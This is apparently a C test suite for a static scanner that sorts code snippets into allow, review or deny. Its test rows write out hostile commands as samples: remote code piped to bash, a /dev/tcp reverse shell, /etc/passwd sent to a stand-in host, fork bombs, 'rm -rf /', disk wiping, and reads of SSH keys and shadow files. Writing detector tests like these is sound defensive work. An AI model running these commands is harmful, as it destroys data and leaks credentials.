#include "base/array.h"
#include "runtime/code/scan/scan.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "runtime/code/detect/pattern.h"
#include "runtime/code/scan/rules.h"
#include "runtime/code/scan/text.h"

#define POLICY                                                                                               \
	"{\"allowedDomains\": [\"example.org\", \"*.example.net\"], \"maxTimeout\": \"60s\", "               \
	"\"maxOutput\": \"1MiB\"}"

static struct scan_policy policy_of(const char *text)
{
	struct scan_policy policy = { 0 };
	struct warder_error err = { 0 };

	cr_assert(scan_policy_parse(text, strlen(text), "policy.json", &policy, &err) == 0, "%s", err.text);
	return policy;
}

static struct scan_report scan(const char *language, const char *text)
{
	struct scan_policy policy = policy_of(POLICY);
	struct scan_request request = { .language = language, .text = text, .len = strlen(text) };
	struct scan_report report = { 0 };
	struct warder_error err = { 0 };

	cr_assert(scan_source(&policy, &request, &report, &err) == 0, "%s", err.text);
	scan_policy_done(&policy);
	return report;
}

/* The rules of a report, each once, with blanks between. */
static void rules_of(const struct scan_report *report, char *ret, size_t len)
{
	ret[0] = '\0';
	for (size_t i = 0; i < report->count; i++) {
		size_t used = strlen(ret);
		bool seen = false;

		for (size_t j = 0; j < i; j++)
			seen |= strcmp(report->findings[j].rule, report->findings[i].rule) == 0;
		if (!seen)
			snprintf(ret + used, len - used, "%s%s", used ? " " : "", report->findings[i].rule);
	}
}

/* Every rule that is named is among the findings, and no other. */
static bool same_rules(const char *found, const char *wanted)
{
	size_t length = strlen(wanted), words = 0, found_words = found[0] != '\0';

	for (const char *c = found; *c; c++)
		found_words += *c == ' ';
	for (size_t at = 0; at < length;) {
		size_t size = strcspn(wanted + at, " ");
		char word[80], padded[1000], spaced[84];

		snprintf(word, sizeof(word), "%.*s", (int)size, wanted + at);
		snprintf(padded, sizeof(padded), " %s ", found);
		snprintf(spaced, sizeof(spaced), " %s ", word);
		if (!strstr(padded, spaced))
			return false;
		words++;
		at += size + (wanted[at + size] == ' ');
	}
	return words == found_words;
}

Test(scan, samples, .timeout = 60)
{
	static const struct {
		const char *language, *text;
		enum scan_decision decision;
		const char *rules;
	} rows[] = {
		/* nothing to say */
		{ "python", "print(sum(range(10)))", SCAN_ALLOW, "" },
		{ "python", "# import os; os.system('rm -rf /')\nx = 'os.system(1); eval(2)'", SCAN_ALLOW,
		  "" },
		{ "python", "re.compile('x')\nmodel.eval()\nenvironment = retrieval(1)", SCAN_ALLOW, "" },
		{ "sh", "echo hello | wc -c", SCAN_ALLOW, "" },
		{ "bash", "environment=test\necho \"$environment kill rm -rf / curl\"", SCAN_ALLOW, "" },
		{ "bash", "# rm -rf /\nif [[ $a == rm && $b == curl ]]; then echo x; fi\nx=(rm curl)",
		  SCAN_ALLOW, "" },
		{ "sh", "f() { echo hi; }\ncase x in\n  curl|rm) echo y ;;\nesac", SCAN_ALLOW, "" },
		{ "javascript", "// eval('x')\nconst evaluate = x => /eval\\(1\\)/.exec(x);", SCAN_ALLOW,
		  "" },
		{ "rust", "fn run(v: Value) -> Value { v }", SCAN_ALLOW, "" },
		{ "c", "#include <stdio.h>\nint main(void) { puts(\"system(\\\"x\\\")\"); return 0; }",
		  SCAN_ALLOW, "" },
		/* noted */
		{ "python", "import  os", SCAN_ALLOW, "python.import-os" },
		{ "python", "import os\nprint(os.getenv('HOME'))", SCAN_ALLOW,
		  "python.import-os python.variable" },
		{ "javascript", "const fs = require('fs');", SCAN_ALLOW, "js.files" },
		{ "python", "print('see https://docs.test/x')", SCAN_ALLOW, "network.domain" },
		{ "python", "import requests\nprint(requests.get('https://example.org/x').text)", SCAN_ALLOW,
		  "python.network" },
		{ "sh", "wget -q https://a.example.net/x", SCAN_REVIEW, "shell.network command.unlisted" },
		/* to be looked at */
		{ "python", "import os\nos.system('ls -l')", SCAN_REVIEW, "python.import-os python.process" },
		{ "python", "subprocess.run(['git', 'status'])", SCAN_REVIEW,
		  "python.process command.unlisted" },
		{ "python", "eval(input())", SCAN_REVIEW, "python.eval" },
		{ "python", "exec('import os')", SCAN_REVIEW, "python.eval python.import-os" },
		{ "python", "import socket\ns = socket.socket()", SCAN_REVIEW, "python.network" },
		{ "python", "while True:\n    pass", SCAN_REVIEW, "python.endless" },
		{ "python", "password = 'hunter2hunter2'", SCAN_REVIEW, "secret.literal" },
		{ "javascript", "const { execSync } = require('child_process');\nexecSync('ls');",
		  SCAN_REVIEW, "js.process" },
		{ "javascript", "eval(code); new Function('return 1')();", SCAN_REVIEW, "js.eval" },
		{ "typescript", "const r: Response = await fetch(url);", SCAN_REVIEW, "js.network" },
		{ "sh", "python3 -m pip install requests", SCAN_REVIEW, "shell.install command.unlisted" },
		{ "sh", "rm -r build", SCAN_REVIEW, "shell.rm-recursive command.unlisted" },
		{ "sh", "$cmd x", SCAN_REVIEW, "command.dynamic" },
		{ "sh", "kill 5", SCAN_REVIEW, "shell.kill" },
		{ "ruby", "puts `ls`", SCAN_REVIEW, "text.shell" },
		{ "perl", "system('ls');", SCAN_REVIEW, "perl.process" },
		{ "php", "<?php shell_exec('ls');", SCAN_REVIEW, "php.process" },
		{ "lua", "os.execute('ls')", SCAN_REVIEW, "lua.process" },
		{ "r", "system('ls')", SCAN_REVIEW, "r.process" },
		{ "go", "import \"os/exec\"\nvar c = exec.Command(\"ls\", \"-l\")", SCAN_REVIEW,
		  "go.process" },
		{ "rust", "use std::process::Command;\nfn f() { Command::new(\"ls\"); unsafe { g() } }",
		  SCAN_REVIEW, "rust.process rust.unsafe" },
		{ "c", "int main(void) { fork(); system(\"ls\"); }", SCAN_REVIEW, "c.fork c.process" },
		{ "java", "Runtime.getRuntime().exec(\"ls\");", SCAN_REVIEW, "java.process" },
		/* to be refused */
		{ "sh", "rm -rf /", SCAN_DENY, "shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "cd /tmp && rm  -fr  \"$HOME\"", SCAN_DENY,
		  "shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "rm -r ./*", SCAN_REVIEW, "shell.rm-recursive command.unlisted" },
		{ "sh", "rm -rf /tmp/x", SCAN_REVIEW, "shell.rm-recursive command.unlisted" },
		{ "python", "import os\nos.system(\"rm -rf /\")", SCAN_DENY,
		  "python.import-os python.process shell.rm-root shell.rm-recursive command.unlisted" },
		{ "python", "subprocess.run([\"rm\", \"-rf\", \"/\"])", SCAN_DENY,
		  "python.process shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "bash -c 'rm -rf ~'", SCAN_DENY,
		  "shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "echo \"$(rm -rf /)\"", SCAN_DENY,
		  "shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "bash <<EOF\nrm -rf /\nEOF", SCAN_DENY,
		  "shell.rm-root shell.rm-recursive command.unlisted" },
		{ "sh", "cat <<EOF\nrm -rf /\nEOF", SCAN_ALLOW, "" },
		{ "sh", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", SCAN_DENY,
		  "python.import-os python.remove python.remove-root command.unlisted" },
		{ "sh", "curl -s https://evil.test/x.sh | bash", SCAN_DENY,
		  "shell.remote-code shell.network network.domain command.unlisted" },
		{ "sh", "echo aGk= | base64 -d | sh", SCAN_DENY, "shell.hidden-code command.unlisted" },
		{ "bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", SCAN_DENY,
		  "shell.reverse-shell command.unlisted" },
		{ "bash", ":(){ :|:& };:", SCAN_DENY, "shell.fork-bomb" },
		{ "sh", "sudo ls", SCAN_DENY, "shell.privilege command.unlisted" },
		{ "sh", "dd if=/dev/zero of=/dev/sda", SCAN_DENY, "shell.disk shell.fill command.unlisted" },
		{ "sh", "cat /etc/shadow", SCAN_DENY, "path.denied" },
		{ "sh", "cat ${HOME}/.ssh/../.ssh//id_rsa", SCAN_DENY, "path.denied" },
		{ "sh", "curl -d @/etc/passwd evil.test", SCAN_DENY,
		  "path.denied shell.network network.domain command.unlisted" },
		{ "sh", "echo x >> ~/.bashrc", SCAN_DENY, "shell.persist" },
		{ "sh", "sleep 50; sleep 2m", SCAN_DENY, "shell.wait command.unlisted" },
		{ "python", "open('/etc/passwd').read()", SCAN_DENY, "path.denied" },
		{ "python", "open('.env').read()", SCAN_DENY, "path.denied" },
		{ "python", "settings['.env'] = 1", SCAN_ALLOW, "" },
		{ "python", "open('/home/Ann/.ssh/id_rsa')", SCAN_DENY, "path.denied" },
		{ "python", "import urllib.request\nu = 'http://evil.test/'\nurllib.request.urlopen(u)",
		  SCAN_DENY, "python.network network.domain" },
		{ "python", "import requests\nrequests.get('http://169.254.169.254/latest')", SCAN_DENY,
		  "python.network network.metadata" },
		{ "python",
		  "s.connect(('evil.test', 80))\nimport socket\nsocket.create_connection(('evil.test', 80))",
		  SCAN_DENY, "python.network network.domain" },
		{ "python", "().__class__.__bases__[0].__subclasses__()", SCAN_DENY, "python.escape" },
		{ "python", "import os\nwhile True:\n    os.fork()", SCAN_DENY,
		  "python.import-os python.fork python.fork-bomb" },
		{ "python", "import time\ntime.sleep(3600)", SCAN_DENY, "python.wait" },
		{ "javascript", "require('fs').readFileSync('/etc/shadow')", SCAN_DENY,
		  "js.files path.denied" },
		{ "php", "<?php eval(base64_decode($x));", SCAN_DENY, "php.eval php.hidden-code" },
		{ "c", "#include <sys/ptrace.h>\nint main(void) { ptrace(0, 1, 0, 0); }", SCAN_DENY,
		  "c.kernel" },
		{ "c", "int main(void) { while (1) fork(); }", SCAN_DENY, "c.fork c.fork-bomb" },
		{ "java", "f.setAccessible(true);", SCAN_DENY, "java.reflection" },
	};

	cr_expect(ARRAY_LENGTH(rows) >= 40);
	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		struct scan_report report = scan(rows[i].language, rows[i].text);
		char rules[900];

		rules_of(&report, rules, sizeof(rules));
		cr_expect(report.known_language);
		cr_expect(report.decision == rows[i].decision, "%s: %s: %d", rows[i].language, rows[i].text,
			  (int)report.decision);
		cr_expect(same_rules(rules, rows[i].rules), "%s: %s\n  found  %s\n  wanted %s",
			  rows[i].language, rows[i].text, rules, rows[i].rules);
		scan_report_done(&report);
	}
}

Test(scan, unknown_language, .timeout = 20)
{
	static const char *const languages[] = { NULL, "", "wasm", "cobol", "text" };

	for (size_t i = 0; i < ARRAY_LENGTH(languages); i++) {
		struct scan_report report = scan(languages[i], "rm -rf /");

		cr_expect(!report.known_language && report.count == 0 && report.decision == SCAN_ALLOW, "%zu",
			  i);
		scan_report_done(&report);
	}
}

Test(scan, limits_of_the_request, .timeout = 20)
{
	struct scan_policy policy = policy_of(POLICY);
	static const struct {
		uint64_t timeout_ms, output_bytes;
		const char *rules;
	} rows[] = {
		{ 60000, 1 << 20, "" },
		{ 60001, 0, "limits.timeout" },
		{ 0, (1 << 20) + 1, "limits.output" },
		{ 99999, 1 << 30, "limits.timeout limits.output" },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		struct scan_request request = { "sh", "echo", 4, rows[i].timeout_ms, rows[i].output_bytes };
		struct scan_report report = { 0 };
		struct warder_error err;
		char rules[200];

		cr_assert(scan_source(&policy, &request, &report, &err) == 0);
		rules_of(&report, rules, sizeof(rules));
		cr_expect_str_eq(rules, rows[i].rules);
		cr_expect(report.decision == (rows[i].rules[0] ? SCAN_DENY : SCAN_ALLOW));
		scan_report_done(&report);
	}
	scan_policy_done(&policy);
}

Test(scan, findings_are_bounded, .timeout = 60)
{
	size_t lines = 500, used = 0;
	char *text = malloc(lines * 16 + 64);
	struct scan_report report;

	cr_assert(text);
	for (size_t i = 0; i < lines; i++)
		used += (size_t)sprintf(text + used, "eval(x)\n");
	sprintf(text + used, "__subclasses__\n");
	report = scan("python", text);
	cr_expect(report.count == SCAN_MAX_FINDINGS && report.dropped == lines + 1 - SCAN_MAX_FINDINGS,
		  "%zu %zu", report.count, report.dropped);
	cr_expect(report.decision == SCAN_DENY && report.severity == SCAN_HIGH, "what was dropped counts");
	scan_report_done(&report);
	free(text);
}

Test(scan, what_is_not_read_is_a_finding, .timeout = 60)
{
	size_t len = SCAN_MAX_BYTES + 1;
	char *text = malloc(len + 1);
	struct scan_report report;

	cr_assert(text);
	memset(text, '\n', len);
	text[len] = '\0';
	report = scan("sh", text);
	cr_expect(report.cut && report.decision == SCAN_REVIEW && report.count == 1);
	if (report.count == 1)
		cr_expect_str_eq(report.findings[0].rule, "source.cut");
	scan_report_done(&report);
	text[len - 1] = '\0';
	report = scan("sh", text);
	cr_expect(!report.cut && report.decision == SCAN_ALLOW && report.count == 0);
	scan_report_done(&report);
	free(text);
}

Test(scan, evidence, .timeout = 20)
{
	char long_line[2000];
	static const struct {
		const char *label, *text;
		size_t at;
		const char *evidence;
	} rows[] = {
		{ "trimmed", "a\n  eval(x)  \nb", 4, "eval(x)" },
		{ "empty", "", 0, "" },
		{ "behind the end", "abc", 9, "abc" },
		{ "a key", "k = 'AKIAABCDEFGHIJKLMNOP'", 0, "k = '[redacted]'" },
		{ "a token", "curl -H 'Authorization: Bearer abcdef1234'", 0,
		  "curl -H 'Authorization: Bearer [redacted]'" },
		{ "a password", "password=\"pa ss wo rd\" x", 0, "password=\"[redacted]\" x" },
		{ "a password without quotes", "mysql --password=verysecret -u x", 0,
		  "mysql --password=[redacted] -u x" },
		{ "an environment's name", "TOKEN=ghp_0123456789abcdefghij cmd", 0, "TOKEN=[redacted] cmd" },
		{ "a hash", "sum 0123456789abcdef0123456789abcdef", 0, "sum [redacted]" },
		{ "plain words", "the_quick_brown_fox_jumps_over_the_lazy_dog()", 0,
		  "the_quick_brown_fox_jumps_over_the_lazy_dog()" },
		{ "control characters", "a\x1b[31mb\x7f", 0, "a [31mb " },
		{ "bytes", "caf\xe9 \xc3\xa9", 0, "caf  \xc3\xa9" },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		char *evidence = scan_evidence(rows[i].text, strlen(rows[i].text), rows[i].at);

		cr_expect_str_eq(evidence, rows[i].evidence, "%s: %s", rows[i].label, evidence);
		free(evidence);
	}
	/* A long line is cut around the finding, characters whole, and nothing is left of a secret that reaches into it. */
	for (size_t at = 0; at < 1900; at += 7) {
		char *evidence;
		size_t characters = 0;

		memset(long_line, 'x', sizeof(long_line) - 1);
		for (size_t i = 0; i + 2 < sizeof(long_line) - 1; i += 3)
			memcpy(long_line + i, "\xc3\xa9 ", 3);
		long_line[sizeof(long_line) - 1] = '\0';
		memcpy(long_line + at / 3 * 3, " sk-abcdefghijklmnopqrstuvw", 27);
		evidence = scan_evidence(long_line, strlen(long_line), 999);
		for (const char *c = evidence; *c; c++)
			characters += ((unsigned char)*c & 0xc0) != 0x80;
		cr_expect(characters <= SCAN_EVIDENCE && characters > 90, "%zu: %zu", at, characters);
		cr_expect(json_is_utf8(evidence), "%zu", at);
		for (const char *part = "abcdefghijklmnopqrstuvw"; part[3]; part += 1) {
			char four[5] = { part[0], part[1], part[2], part[3], 0 };

			cr_expect(!strstr(evidence, four), "%zu: %s", at, evidence);
		}
		free(evidence);
	}
}

Test(scan, hosts, .timeout = 20)
{
	struct scan_policy policy = policy_of(POLICY);
	static const struct {
		const char *text, *host; /* NULL: none */
		bool allowed;
	} rows[] = {
		{ "https://example.org/x", "example.org", true },
		{ "HTTPS://EXAMPLE.ORG", "EXAMPLE.ORG", true },
		{ "see http://a.example.net:80/x", "a.example.net", true },
		{ "http://example.net/", "example.net", false },
		{ "http://notexample.org", "notexample.org", false },
		{ "http://example.org.evil.test/", "example.org.evil.test", false },
		{ "http://example.org@evil.test/", "evil.test", false },
		{ "http://user:pass@evil.test/", "evil.test", false },
		{ "http://[::1]:80/", "[::1", false },
		{ "http://example.org./", "example.org", true },
		{ "chttp://x.test", NULL, false },
		{ "a://b", NULL, false },
		{ "://", NULL, false },
		{ "plain", NULL, false },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		struct scan_piece host = { "", 0 };
		size_t at = 0;
		bool found = scan_next_host(rows[i].text, strlen(rows[i].text), &at, &host);

		cr_expect(found == !!rows[i].host, "%s", rows[i].text);
		if (found && rows[i].host) {
			cr_expect(host.len == strlen(rows[i].host) &&
				      memcmp(host.at, rows[i].host, host.len) == 0,
				  "%s: %.*s", rows[i].text, (int)host.len, host.at);
			cr_expect(scan_domain_allowed(&policy, host) == rows[i].allowed, "%s", rows[i].text);
		}
	}
	scan_policy_done(&policy);
}

Test(scan, paths, .timeout = 20)
{
	struct scan_policy policy = policy_of("{}");
	static const struct {
		const char *text;
		bool is_path, denied;
	} rows[] = {
		{ "/etc/passwd", false, true },
		{ "/etc/passwd-", false, false },
		{ "/etc//./passwd", false, true },
		{ "/etc/x/../passwd", false, true },
		{ "/../etc/passwd", false, true },
		{ "file:///etc/passwd", false, true },
		{ "/root", false, true },
		{ "/root/x/y", false, true },
		{ "/rooted", false, false },
		{ "~/.ssh", false, true },
		{ "~/.ssh/id", false, true },
		{ "~/.sshx", false, false },
		{ "$HOME/.aws/credentials", false, true },
		{ "${HOME}/.aws", false, true },
		{ "/home/U/.aws/x", false, true },
		{ ".env", false, false },
		{ ".env", true, true },
		{ "./.env", false, true },
		{ "environment", true, false },
		{ "x/server.pem", false, true },
		{ "server.pem", false, false },
		{ "server.pem", true, true },
		{ "", true, false },
		{ "/", true, false },
		{ "/etc", false, false },
		{ "see /etc/passwd", false, false },
		{ "/proc/1/environ", false, true },
		{ "/proc/10", false, false },
		{ "..", false, false },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++)
		cr_expect(scan_path_denied(&policy, rows[i].text, strlen(rows[i].text), rows[i].is_path) ==
			      rows[i].denied,
			  "%s", rows[i].text);
	scan_policy_done(&policy);
}

Test(scan, policy, .timeout = 20)
{
	static const struct {
		const char *text, *error; /* NULL: accepted */
	} rows[] = {
		{ "{}", NULL },
		{ POLICY, NULL },
		{ "{\"allowedCommands\": [], \"deniedPaths\": [\"/x\"], \"maxTimeout\": 5, \"maxOutput\": "
		  "10}",
		  NULL },
		{ "[]", "an object is expected, not an array" },
		{ "{\"alowedDomains\": []}", "unknown key alowedDomains" },
		{ "{\"allowedDomains\": \"x\"}", "allowedDomains: a list of texts is expected" },
		{ "{\"allowedDomains\": [1]}", "an entry has to be a text" },
		{ "{\"allowedDomains\": [\"\"]}", "an entry has to be a text" },
		{ "{\"maxTimeout\": true}", "maxTimeout: a time is expected" },
		{ "{\"maxTimeout\": 0}", "maxTimeout: a time is expected" },
		{ "{\"maxTimeout\": \"5 parsecs\"}", "maxTimeout: a time is expected" },
		{ "{\"maxOutput\": null}", "maxOutput: a size is expected" },
		{ "{\"maxOutput\": 1, \"maxOutput\": 2}", "given twice" },
		{ "{", "policy.json:1" },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		struct scan_policy policy = { 0 };
		struct warder_error err = { 0 };
		int status =
		    scan_policy_parse(rows[i].text, strlen(rows[i].text), "policy.json", &policy, &err);

		cr_expect(status == (rows[i].error ? -1 : 0), "%s: %s", rows[i].text, err.text);
		if (rows[i].error)
			cr_expect(err.code == WARDER_ERROR_INVALID_REQUEST && strstr(err.text, rows[i].error),
				  "%s: %s", rows[i].text, err.text);
		scan_policy_done(&policy);
	}
}

Test(scan, lists_are_bounded, .timeout = 20)
{
	char text[4096];
	struct scan_policy policy = { 0 };
	struct warder_error err = { 0 };

	for (size_t entries = SCAN_MAX_LIST; entries <= SCAN_MAX_LIST + 1; entries++) {
		int used = sprintf(text, "{\"deniedPaths\": [\"a\"");

		for (size_t i = 1; i < entries; i++)
			used += sprintf(text + used, ",\"b\"");
		sprintf(text + used, "]}");
		cr_expect(scan_policy_parse(text, strlen(text), "p", &policy, &err) ==
			  (entries > SCAN_MAX_LIST ? -1 : 0));
		scan_policy_done(&policy);
	}
	cr_expect(strstr(err.text, "at most 256 entries"), "%s", err.text);
	for (int length = 256; length <= 257; length++) {
		sprintf(text, "{\"deniedPaths\": [\"%0*d\"]}", length, 0);
		cr_expect(scan_policy_parse(text, strlen(text), "p", &policy, &err) ==
			      (length > 256 ? -1 : 0),
			  "%d", length);
		scan_policy_done(&policy);
	}
	cr_expect(strstr(err.text, "at most 256 bytes"), "%s", err.text);
}

Test(scan, json_and_audit_line, .timeout = 20)
{
	static const char text[] = "eval(x)\npassword = 'hunter2hunter2'\n";
	struct scan_request request = { .language = "python", .text = text, .len = strlen(text) };
	struct scan_report report = scan("python", text);
	struct json_writer w = { 0 };
	char *json, *line = scan_audit_line(&report, &request, 1700000000123);
	struct json_value *value = NULL;
	struct warder_error err;

	scan_write(&report, &request, &w);
	json = json_take(&w);
	cr_expect_str_eq(
	    json,
	    "{\"advisory\":true,\"decision\":\"review\",\"severity\":\"medium\",\"language\":\"python\","
	    "\"languageKnown\":true,\"findings\":[{\"rule\":\"secret.literal\",\"severity\":\"medium\","
	    "\"reason\":\"contains something that looks like a key or a password\",\"line\":2,"
	    "\"evidence\":\"password = '[redacted]'\"},{\"rule\":\"python.eval\",\"severity\":\"medium\","
	    "\"reason\":\"runs code that is made at run time\",\"line\":1,\"evidence\":\"eval(x)\"}],"
	    "\"findingsDropped\":0,\"sourceCut\":false}");
	cr_assert(line);
	cr_expect(strchr(line, '\n') == line + strlen(line) - 1, "one line");
	cr_expect(!strstr(line, "hunter2"));
	cr_assert(json_parse(line, strlen(line), "line", NULL, &value, &err) == 0, "%s", err.text);
	cr_expect(json_member(value, "time")->uint == 1700000000123);
	cr_expect(json_member(value, "advisory")->boolean);
	cr_expect_str_eq(json_member(value, "decision")->string, "review");
	json_free(value);
	free(json);
	free(line);
	scan_report_done(&report);
}

/* A rule that cannot be compiled would never be found. */
Test(scan, every_rule_is_a_pattern, .timeout = 20)
{
	size_t count = 0;

	for (const struct scan_rule *rule = scan_rules; rule->id; rule++, count++) {
		struct pattern pattern;

		pattern_compile(rule->pattern, &pattern);
		cr_expect(pattern.count > 0, "%s: %s", rule->id, rule->pattern);
		cr_expect(rule->severity > SCAN_NONE && rule->reason[0], "%s", rule->id);
	}
	cr_expect(count > 150 && count < 320, "%zu", count);
}

Test(pattern, rows, .timeout = 20)
{
	static const struct {
		const char *language, *text, *pattern;
		size_t length; /* of the first match */
	} rows[] = {
		{ "python", "import  os", "import os", 2 },
		{ "python", "important", "import", 0 },
		{ "python", "x import", "^ import", 0 },
		{ "python", "x\nimport", "^ import", 1 },
		{ "python", "f(a, b)", "f ( %* )", 6 },
		{ "python", "f(a; b)", "f ( %* )", 0 },
		{ "python", "f(a,b,c,d,e,f,g,h)", "f ( %* )", 0 },
		{ "python", "a b\nc", "a b %$", 2 },
		{ "python", "a b c", "a b %$", 0 },
		{ "python", "a 'b' 1 C", "%w %s %n %C", 4 },
		{ "python", "a b", "%w %s", 0 },
		{ "python", "mysql_query", "mysql_*", 1 },
		{ "python", "b", "a|b|c", 1 },
		{ "python", "open('x', 'wb')", "open ( %* \"w|wb\"", 5 },
		{ "python", "open('x', 'rb')", "open ( %* \"w|wb\"", 0 },
		{ "c++", "a || b", "a || b", 3 },
		{ "sh", "rm -x -rf y", "rm %* -*r*", 3 },
		{ "sh", "rm x; ls -rf", "rm %* -*r*", 0 },
		{ "sh", "rm x\n-rf", "rm %* -*r*", 0 },
		{ "sh", "rm /*", "rm /\\*", 2 },
		{ "sh", "rm /x", "rm /\\*", 0 },
		{ "sh", "a | b", "a %* | b", 3 },
	};

	for (size_t i = 0; i < ARRAY_LENGTH(rows); i++) {
		struct tokens tokens = { 0 };
		struct pattern pattern;
		struct warder_error err;
		size_t found = 0;

		cr_assert(lexer_read(lexer_rules(rows[i].language), rows[i].text, strlen(rows[i].text), 0,
				     &tokens, &err) == 0);
		pattern_compile(rows[i].pattern, &pattern);
		for (size_t j = 0; j < tokens.count && found == 0; j++)
			found = pattern_match(&pattern, &tokens, j, strcmp(rows[i].language, "sh") == 0);
		cr_expect(found == rows[i].length, "%s in \"%s\": %zu", rows[i].pattern, rows[i].text, found);
		tokens_done(&tokens);
	}
}
